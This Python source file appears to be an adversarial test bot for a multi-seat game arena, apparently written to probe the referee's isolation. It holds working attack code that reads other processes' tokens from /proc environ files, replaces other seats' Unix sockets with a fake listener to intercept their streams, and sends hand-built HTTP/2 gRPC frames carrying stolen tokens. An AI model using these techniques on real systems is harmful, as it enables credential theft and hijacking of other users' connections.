"""Goes after the other seats' sockets before they connect: to replace one
with a socket of its own (and sit in the middle of that seat's stream,
reading its cards and token), or to connect to it with that seat's token
read from /proc and take its stream.

It acts at once, before importing gRPC (to be quicker than the other seats'
Hello). The other seats' sockets are found by listing and, where the folder
cannot be listed, by their names (seat<N>/referee.sock beside its own).
"""

from __future__ import annotations

import os
import socket
import struct
import time

from reach import other_sockets, report

OWN = os.environ["ARENA_ADDRESS"].removeprefix("unix:")
MATCH_DIR = os.path.dirname(os.path.dirname(OWN))


def errname(exc: OSError) -> str:
    import errno

    return f"failed {errno.errorcode.get(exc.errno or 0, exc.errno)}"


def public(paths: list[str]) -> list[str]:
    """The seats' own sockets (what each seat's bot connects to)."""
    return [p for p in paths if os.path.basename(p) == "referee.sock"]


def targets() -> list[str]:
    guessed = [os.path.join(MATCH_DIR, f"seat{n}", "referee.sock") for n in range(4)]
    return sorted({*public(other_sockets(OWN)), *(p for p in guessed if p != OWN)})


def tokens() -> dict[str, str]:
    """The other seats' tokens by their address, from /proc (where it may
    read), in this match only (other matches' bots may be on the machine)."""
    found: dict[str, str] = {}
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = dict(i.split(b"=", 1) for i in f.read().split(b"\0") if b"=" in i)
        except OSError:
            continue
        address = env.get(b"ARENA_ADDRESS", b"").decode().removeprefix("unix:")
        if address.startswith(MATCH_DIR + "/") and address != OWN and b"ARENA_TOKEN" in env:
            found[address] = env[b"ARENA_TOKEN"].decode()
    return found


def replace(path: str) -> str:
    """Move the real socket aside and listen in its place."""
    try:
        os.rename(path, path + ".real")
    except OSError as exc:
        return errname(exc)
    fake = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        fake.bind(path)
        fake.listen(4)
    except OSError as exc:
        return f"moved, then {errname(exc)}"
    return "replaced"


def hello(path: str, token: str) -> str:
    """A raw HTTP/2 stream carrying a gRPC Hello with `token`; what came back."""
    from arena.wire.gen.arena.v1 import arena_pb2 as pb  # protobuf only: quick

    def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def literal(name: bytes, value: bytes) -> bytes:
        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    headers = b"".join(literal(n, v) for n, v in [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/arena.v1.Referee/Play"),
        (b":authority", b"localhost"), (b"content-type", b"application/grpc"), (b"te", b"trailers")])
    msg = pb.BotMessage(hello=pb.Hello(token=token, bot_name="hijack")).SerializeToString()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
    except OSError as exc:
        return errname(exc)
    try:
        s.settimeout(10)
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 4, 1, headers)
                  + frame(0, 0, 1, b"\0" + struct.pack(">I", len(msg)) + msg))
        got = b""
        while len(got) < 4096:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
            if b"match_start" in got or len(got) > 200:
                break
        return f"answered {len(got)} bytes" if got else "closed by the referee"
    except OSError as exc:
        return f"connected, then {errname(exc)}"
    finally:
        s.close()


paths = targets()
report("reach", f"{len(public(other_sockets(OWN)))} other sockets")
stolen = tokens()
report("tokens", f"{len(stolen)} other tokens")
import json  # noqa: E402

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack.json")) as f:
    how = json.load(f).get("how", "replace")
for path in paths:
    if how == "replace":
        report(f"replace {os.path.basename(os.path.dirname(path))}", replace(path))
    else:
        report(f"hello {os.path.basename(os.path.dirname(path))}",
               hello(path, stolen.get(path, "x" * 32)))
time.sleep(0.5)

from adversary import Adversary, main  # noqa: E402 - after the attack: gRPC's import is slow

main(Adversary())
